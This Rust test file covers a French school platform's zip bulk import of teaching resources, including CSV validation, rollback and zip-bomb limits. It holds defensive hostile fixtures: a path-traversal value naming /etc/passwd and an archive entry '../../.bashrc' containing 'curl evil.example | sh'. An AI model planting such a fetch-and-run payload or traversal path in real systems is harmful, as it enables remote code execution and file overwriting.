//! The bulk import against the demo collège, with archives built here (and the committed
//! fixture of `tests/fixtures/import/`).

use std::io::Write;
use std::path::{Path, PathBuf};
use std::sync::Arc;

use zip::write::SimpleFileOptions;
use zip::ZipArchive;

use super::archive::{Entries, Entry, Unpack};
use super::*;
use crate::demo::testing::{account, DemoSchool};
use crate::domain::resources::resource::{Content, ResourceKind};
use crate::domain::school::establishment::Target;

const PDF: &[u8] = include_bytes!("../../../../../tests/fixtures/resources/fractions.pdf");
const PNG: &[u8] =
    include_bytes!("../../../../../tests/fixtures/import/collection/images/repere.png");
const COLLECTION: &str = concat!(
    env!("CARGO_MANIFEST_DIR"),
    "/../tests/fixtures/import/collection.zip"
);

const HEADER: &str =
    "fichier;titre;description;type;disciplines;niveaux;themes;mots_cles;licence;lien;classes";

/// The demo collège, its files kept in a temporary folder, and the teacher who imports.
struct School {
    dir: tempfile::TempDir,
    domain: Domain,
    teacher: Account,
}

impl School {
    fn demo() -> Self {
        let school = DemoSchool::new();
        let teacher = school.account("enseignant.demo");
        let domain = school.domain.clone();
        Self {
            dir: school.dir,
            domain,
            teacher,
        }
    }

    /// A zip of `entries` (deflated) in the school's folder.
    fn archive(&self, entries: &[(&str, &[u8])]) -> PathBuf {
        let path = self
            .dir
            .path()
            .join(format!("import-{}.zip", entries.len()));
        let mut zip = zip::ZipWriter::new(std::fs::File::create(&path).expect("creates"));
        for (name, bytes) in entries {
            zip.start_file(*name, SimpleFileOptions::default())
                .expect("starts");
            zip.write_all(bytes).expect("writes");
        }
        zip.finish().expect("finishes");
        path
    }

    /// A zip of a `ressources.csv` of the template's header and `lines`, then `files`.
    fn collection(&self, lines: &[&str], files: &[(&str, &[u8])]) -> PathBuf {
        let mut all = vec![HEADER];
        all.extend_from_slice(lines);
        let csv = csv(&all);
        let mut entries = vec![("ressources.csv", csv.as_slice())];
        entries.extend_from_slice(files);
        self.archive(&entries)
    }

    fn import(&self, zip: &Path) -> Result<ImportOutcome, DomainError> {
        self.domain.import_resources(&self.teacher, zip)
    }

    /// How many resources the store holds.
    fn resources(&self) -> usize {
        self.domain.store.resources.len()
    }
}

fn pupil_of(domain: &Domain, class: &str) -> Account {
    domain
        .accounts
        .all()
        .filter_map(Result::ok)
        .find(|a| a.class() == Some(class))
        .expect("a pupil of the class")
}

fn csv(lines: &[&str]) -> Vec<u8> {
    let mut text = lines.join("\n");
    text.push('\n');
    text.into_bytes()
}

/// The created resources, or a panic.
fn accepted(outcome: Result<ImportOutcome, DomainError>) -> ImportOutcome {
    outcome.expect("accepted")
}

/// The refusal's French messages, or a panic.
fn refused(outcome: Result<ImportOutcome, DomainError>) -> Vec<String> {
    match outcome {
        Ok(outcome) => panic!("accepted: {outcome:?}"),
        Err(DomainError::ImportRefused(refusal)) => refusal.french(),
        Err(other) => panic!("not a refusal: {other}"),
    }
}

#[test]
fn a_pdf_an_image_and_a_link_are_created_and_the_pupils_of_their_class_find_them() {
    let school = School::demo();
    let (domain, teacher) = (&school.domain, &school.teacher);
    assert!(
        domain
            .resource_targets(teacher)
            .expect("targets")
            .contains(&Target::Class("4B".into())),
        "enseignant.demo teaches 4B"
    );
    let zip = school.collection(
        &[
            "cours/fractions.pdf;Les fractions;Le cours.;;Mathématiques;4e;num-951;fractions;CC BY-SA;;4B",
            "images/Repère_vierge.png;;;;mathematiques;Cycle 4;utiliser le calcul littéral;;;;4b",
            ";Calcul mental;En ligne.;Lien;061300;num-021;;;;https://example.org/calcul;4B",
        ],
        &[
            ("cours/fractions.pdf", PDF),
            ("images/Repère_vierge.png", PNG),
        ],
    );

    let outcome = accepted(school.import(&zip));

    let titles: Vec<&str> = outcome.created.iter().map(|(_, t)| t.as_str()).collect();
    assert_eq!(titles, ["Les fractions", "Repère vierge", "Calcul mental"]);
    let lea = account(domain, "eleve.demo");
    let other = pupil_of(domain, "5A");
    let mut kinds = Vec::new();
    for (id, _) in &outcome.created {
        let resource = domain.resource_for(&lea, *id).expect("visible in 4B");
        assert!(resource.published);
        assert_eq!(resource.author, teacher.id);
        assert_eq!(resource.disciplines, ["061300"]);
        kinds.push(resource.kind);
        assert!(domain.resource_for(&other, *id).is_err(), "not in 5A");
    }
    assert_eq!(
        kinds,
        [
            ResourceKind::Document,
            ResourceKind::Image,
            ResourceKind::Link
        ]
    );
    let image = domain
        .resource_for(&lea, outcome.created[1].0)
        .expect("visible");
    assert_eq!(image.levels, ["num-631"]);
    assert_eq!(image.themes, ["num-951"]);
    let Content::File { file } = &image.content else {
        panic!("a file: {:?}", image.content);
    };
    assert_eq!(file.name, "Repère_vierge.png");
    assert!(domain.blobs().expect("blobs").contains(&file.hash));
}

#[test]
fn a_csv_with_two_bad_lines_is_refused_with_both_and_nothing_is_created() {
    let school = School::demo();
    let before = school.resources();
    let zip = school.collection(
        &[
            "fractions.pdf;Les fractions;;;Mathématiques;4e;;;;;4B",
            "fractions.pdf;Encore;;;Mathématique;4e;;;;;4B",
            ";Un lien;;;;;;;;https://example.org;4B",
            ";;;;Mathématiques;12e;;;;https://example.org;9Z",
        ],
        &[("fractions.pdf", PDF)],
    );

    let problems = refused(school.import(&zip));

    assert_eq!(
        problems,
        [
            "Ligne 3 : discipline inconnue « Mathématique ».",
            "Ligne 5 : titre manquant.",
            "Ligne 5 : niveau inconnu « 12e ».",
            "Ligne 5 : classe ou groupe inconnu « 9Z ».",
        ]
    );
    assert_eq!(school.resources(), before);
}

#[test]
fn a_missing_file_a_path_out_of_the_archive_and_a_foreign_class_are_refused() {
    let school = School::demo();
    let taught = school
        .domain
        .resource_targets(&school.teacher)
        .expect("targets");
    let foreign = ["6A", "6B", "5A", "5B", "3A", "3C"]
        .into_iter()
        .find(|c| !taught.contains(&Target::Class((*c).into())))
        .expect("a class not taught");
    let before = school.resources();
    let zip = school.collection(
        &[
            "absent.pdf;Absent;;;;;;;;;",
            "..\\..\\etc\\passwd;Dehors;;;;;;;;;",
            "present.pdf;Présent;;;;;;;;https://example.org;",
            &format!(";Ailleurs;;module interactif;;;;;;https://example.org;{foreign}"),
        ],
        &[("present.pdf", PDF)],
    );

    let problems = refused(school.import(&zip));

    assert_eq!(
        problems,
        [
            "Ligne 2 : fichier « absent.pdf » absent de l'archive.".to_owned(),
            "Ligne 3 : le chemin « ..\\..\\etc\\passwd » sort de l'archive.".to_owned(),
            "Ligne 4 : un fichier et un lien à la fois : une ressource a l'un ou l'autre."
                .to_owned(),
            "Ligne 5 : un module interactif se dépose sous forme d'archive zip.".to_owned(),
            format!(
                "Ligne 5 : vous ne pouvez publier qu'aux classes et groupes où vous enseignez, \
                 pas à « {foreign} »."
            ),
        ]
    );
    assert_eq!(school.resources(), before);
}

#[test]
fn an_entry_named_outside_the_archive_refuses_it_whole() {
    let school = School::demo();
    let before = school.resources();
    let zip = school.collection(
        &["cours.pdf;Cours;;;;;;;;;"],
        &[
            ("cours.pdf", PDF),
            ("../../.bashrc", b"curl evil.example | sh"),
        ],
    );

    let problems = refused(school.import(&zip));

    assert_eq!(
        problems,
        ["L'archive contient un chemin qui en sort (« ../../.bashrc ») : elle est refusée."]
    );
    assert_eq!(school.resources(), before);
}

#[test]
fn a_zip_bomb_is_refused_from_its_headers() {
    let school = School::demo();
    let zeros = vec![0u8; 8 << 20];
    let zip = school.collection(&["zeros.pdf;Zéros;;;;;;;;;"], &[("zeros.pdf", &zeros)]);

    let outcome = school.import(&zip);

    let Err(DomainError::ImportRefused(refusal)) = outcome else {
        panic!("not refused: {outcome:?}");
    };
    assert_eq!(
        refusal,
        ImportRefusal {
            problems: vec![ImportProblem::CompressedTooMuch {
                entry: "zeros.pdf".into(),
                limit: 200
            }]
        }
    );
}

#[test]
fn a_file_larger_than_an_upload_is_refused_even_when_its_header_lies() {
    let school = School::demo();
    let zip = school.collection(&["cours.pdf;Cours;;;;;;;;;"], &[("cours.pdf", PDF)]);
    let limits = ImportLimits {
        max_file_bytes: 4096,
        ..ImportLimits::of(&school.domain.config.files)
    };

    let outcome = school
        .domain
        .import_resources_within(&school.teacher, &zip, &limits);

    assert_eq!(
        refused(outcome),
        ["Ligne 2 : le fichier « cours.pdf » dépasse 1 Mio."]
    );
    let mut file = Entries::default();
    file.files.insert(
        "cours.pdf".into(),
        Entry {
            index: 1,
            size: 10,
            compressed: 10,
            readable: true,
        },
    );
    let mut zip = ZipArchive::new(std::fs::File::open(&zip).expect("opens")).expect("zip");
    assert!(
        matches!(
            file.unpack(&mut zip, "cours.pdf", 100, 0, &limits),
            Err(Unpack::TooLarge)
        ),
        "the header said 10 bytes, the entry gives more than the 100 asked for"
    );
}

#[test]
fn a_windows_spreadsheet_with_commas_and_labels_is_understood() {
    let school = School::demo();
    let text = "Fichier,Titre,Description,Type,Disciplines,Niveaux,Thèmes,Mots-clés,Licence,Lien,Classes\r\n\
                ,Vidéo sur Pythagore,« Démonstration » animée,Vidéo,\"Mathématiques, physique-chimie\",\"4ème, cycle 4\",,\"triangle, théorème\",CC BY,https://example.org/pythagore,\r\n\
                ,,,,,,,,,,\r\n";
    let (bytes, _, _) = encoding_rs::WINDOWS_1252.encode(text);
    let zip = school.archive(&[("Ma collection/Ressources.CSV", &bytes)]);

    let outcome = accepted(school.import(&zip));

    let [(id, title)] = outcome.created.as_slice() else {
        panic!("one resource: {outcome:?}");
    };
    assert_eq!(title, "Vidéo sur Pythagore");
    let resource = school
        .domain
        .resource_for(&school.teacher, *id)
        .expect("theirs");
    assert_eq!(resource.description, "« Démonstration » animée");
    assert_eq!(resource.kind, ResourceKind::Video);
    assert_eq!(resource.disciplines, ["061300", "062300"]);
    assert_eq!(resource.levels, ["num-021", "num-631"]);
    assert_eq!(resource.keywords, ["triangle", "théorème"]);
    assert_eq!(
        resource.audience,
        crate::domain::resources::resource::Audience::Establishment,
        "no class: the whole establishment"
    );
}

#[test]
fn files_are_found_beside_the_csv_even_when_the_case_differs() {
    let school = School::demo();
    let zip = school.archive(&[
        (
            "Collection/ressources.csv",
            &csv(&[
                HEADER,
                "Cours/Fractions.PDF;;;;;;;;;;",
                "images/repère.png;;;;;;;;;;",
            ]),
        ),
        ("Collection/cours/fractions.pdf", PDF),
        // macOS writes accents decomposed.
        ("Collection/images/repe\u{300}re.png", PNG),
        ("__MACOSX/Collection/._ressources.csv", b"resource fork"),
    ]);

    let outcome = accepted(school.import(&zip));

    let titles: Vec<&str> = outcome.created.iter().map(|(_, t)| t.as_str()).collect();
    assert_eq!(
        titles,
        ["fractions", "repe\u{300}re"],
        "titles from the names of the files"
    );
}

#[test]
fn unknown_columns_are_named_and_nothing_is_read_further() {
    let school = School::demo();
    let zip = school.archive(&[(
        "ressources.csv",
        &csv(&[
            "titre;lien;auteur;Date de création",
            "Un lien;https://example.org;Moi;hier",
        ]),
    )]);

    let problems = refused(school.import(&zip));

    assert_eq!(problems.len(), 1);
    assert!(
        problems[0].starts_with(
            "Colonnes inconnues dans « ressources.csv » : « auteur », « Date de création »."
        ),
        "{problems:?}"
    );
}

#[test]
fn a_creation_that_fails_midway_removes_what_the_import_had_created() {
    let mut school = School::demo();
    let mut config = crate::config::Config::default();
    config.files.quota_per_user_mb = 0;
    school.domain.config = Arc::new(config);
    let before = school.resources();
    let zip = school.collection(
        &[
            ";Un lien;;;;;;;;https://example.org;",
            "cours.pdf;Le cours;;;;;;;;;",
        ],
        &[("cours.pdf", PDF)],
    );

    let outcome = school.import(&zip);

    assert!(
        matches!(outcome, Err(DomainError::QuotaExceeded { .. })),
        "{outcome:?}"
    );
    assert_eq!(school.resources(), before, "the link is removed");
    let staging = school.domain.blobs().expect("blobs").root().join("tmp");
    assert_eq!(
        std::fs::read_dir(staging).expect("staging folder").count(),
        0,
        "no staged file is left"
    );
}

#[test]
fn a_refused_package_names_its_line_and_undoes_the_lines_before() {
    let school = School::demo();
    let before = school.resources();
    let not_a_package = {
        let mut zip = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
        zip.start_file("notes.txt", SimpleFileOptions::default())
            .expect("starts");
        zip.write_all(b"pas de page HTML").expect("writes");
        zip.finish().expect("finishes").into_inner()
    };
    let zip = school.collection(
        &[
            ";Un lien;;;;;;;;https://example.org;",
            "module.zip;Module;;;;;;;;;",
        ],
        &[("module.zip", &not_a_package)],
    );

    let problems = refused(school.import(&zip));

    assert_eq!(problems.len(), 1);
    assert!(
        problems[0].starts_with("Ligne 3 : module interactif refusé : "),
        "{problems:?}"
    );
    assert_eq!(school.resources(), before);
}

#[test]
fn the_committed_collection_imports_and_a_pupil_cannot_import() {
    let school = School::demo();

    let outcome = accepted(school.import(Path::new(COLLECTION)));

    assert_eq!(outcome.created.len(), 4);
    let lea = account(&school.domain, "eleve.demo");
    for (id, _) in &outcome.created {
        assert!(school.domain.resource_for(&lea, *id).is_ok());
    }
    assert!(matches!(
        school.domain.import_resources(&lea, Path::new(COLLECTION)),
        Err(DomainError::Forbidden)
    ));
}

#[test]
fn an_archive_that_is_not_a_zip_is_refused_in_french() {
    let school = School::demo();
    let path = school.dir.path().join("ressources.csv");
    std::fs::write(&path, csv(&[HEADER])).expect("writes");

    assert_eq!(
        refused(school.import(&path)),
        ["Le fichier déposé n'est pas une archive zip lisible."]
    );
}

#[test]
fn problems_name_their_line_whatever_the_line_endings() {
    // Found by the fuzz target import_csv (fuzz/regressions/import_csv/cr-line-endings): the csv
    // crate counts lines by their `\n` only, and after a `\r\n` it still gives the line before
    // (BurntSushi/rust-csv#395), so Excel's CSV for Windows (CRLF) and for old Macs (CR) put every
    // problem a line or more too early.
    let school = School::demo();
    let lines = [
        HEADER,
        "fractions.pdf;Les fractions;;;Mathématiques;4e;;;;;4B",
        "fractions.pdf;Encore;;;Mathématique;4e;;;;;4B",
    ];
    for ending in ["\n", "\r\n", "\r"] {
        let mut text = lines.join(ending);
        text.push_str(ending);
        let zip = school.archive(&[("ressources.csv", text.as_bytes()), ("fractions.pdf", PDF)]);
        assert_eq!(
            refused(school.import(&zip)),
            ["Ligne 3 : discipline inconnue « Mathématique »."],
            "lines ending in {ending:?}"
        );
    }
}
